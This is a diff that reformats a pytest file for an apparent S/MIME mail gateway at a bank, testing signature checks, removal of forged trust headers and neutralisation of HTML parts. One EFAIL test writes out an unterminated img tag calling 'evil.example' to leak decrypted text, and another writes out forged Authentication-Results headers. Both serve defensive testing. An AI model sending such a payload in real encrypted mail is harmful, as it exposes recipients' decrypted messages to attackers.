@@ -4,11 +4,11 @@ from email import message_from_bytes, policy
 from pathlib import Path
 
 import pytest
+
 from gateway.demo import openssl
 from gateway.errors import Reason
 from gateway.model.outcome import Settled
 from gateway.pipeline.compose import neutralised
-
 from tests.support.bank import House, house
 from tests.support.bank import policy as one_policy
 
@@ -22,8 +22,10 @@ def signed(bank: House, name: str = "anna") -> bytes:
 
 def sealed(bank: House, name: str = "anna") -> bytes:
     return b"Message-ID: <q@c>\r\n" + openssl.encrypt(
-        openssl.sign(QUESTION, bank.bank.people[name]), bank.bank.support_certificate,
-        ("anna@customer.example", "support@bank.example", "A question"))
+        openssl.sign(QUESTION, bank.bank.people[name]),
+        bank.bank.support_certificate,
+        ("anna@customer.example", "support@bank.example", "A question"),
+    )
 
 
 def arrived(bank: House, octets: bytes) -> bytes:
@@ -60,7 +62,9 @@ def test_signed_by_somebody_else_is_not_believed(bank: House) -> None:
 def test_status_fields_and_tags_from_outside_are_taken_off(bank: House) -> None:
     forged = (
         b"Sealgate-Verdict: trusted\r\nAuthentication-Results: gateway.bank.example; smime=pass\r\n"
-        b"Authentication-Results: GATEWAY.bank.example 1; smime=pass\r\n" + HEADER.replace(b"A question", b"[customer] [cust[customer]omer] hello") + b"\r\nhi\r\n"
+        b"Authentication-Results: GATEWAY.bank.example 1; smime=pass\r\n"
+        + HEADER.replace(b"A question", b"[customer] [cust[customer]omer] hello")
+        + b"\r\nhi\r\n"
     )
     octets = arrived(bank, forged)
     mail = message_from_bytes(octets, policy=policy.default)
@@ -120,15 +124,21 @@ def test_unauthenticated_plaintext_loses_its_active_content(home: Path) -> None:
     """EFAIL (CVE-2017-17689): CBC ciphertext without a signature inside may be spliced by anybody."""
     html = b'Content-Type: text/html; charset="utf-8"\r\n\r\n<img src="http://evil.example/?\r\n'
     with house(home, one_policy(home / "p.yaml", EXPLAINED)) as bank:
-        octets = openssl.encrypt(html, bank.bank.support_certificate, ("anna@customer.example", "support@bank.example", "x"))
+        octets = openssl.encrypt(
+            html, bank.bank.support_certificate, ("anna@customer.example", "support@bank.example", "x")
+        )
         mail = message_from_bytes(arrived(bank, octets), policy=policy.default)
         assert mail.get_content_type() == "text/plain"
-        assert mail["Sealgate-Encryption"] == "decrypted; integrity=none" or "integrity=none" in mail["Sealgate-Encryption"]
+        assert (
+            mail["Sealgate-Encryption"] == "decrypted; integrity=none"
+            or "integrity=none" in mail["Sealgate-Encryption"]
+        )
 
 
 @pytest.mark.parametrize("kind", ["text/html", "TEXT/HTML", "image/svg+xml", "application/xhtml+xml"])
 def test_neutralised_in_every_part(kind: str) -> None:
-    mail = f'From: a@b\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: {kind}; charset=latin1\r\n\r\n<b>\r\n--x--\r\n'
+    body = f"--x\r\nContent-Type: {kind}; charset=latin1\r\n\r\n<b>\r\n--x--\r\n"
+    mail = f"From: a@b\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n{body}"
     out = neutralised(mail.encode())
     assert kind.lower().encode() not in out.lower()
     assert b'text/plain; charset="latin1"' in out
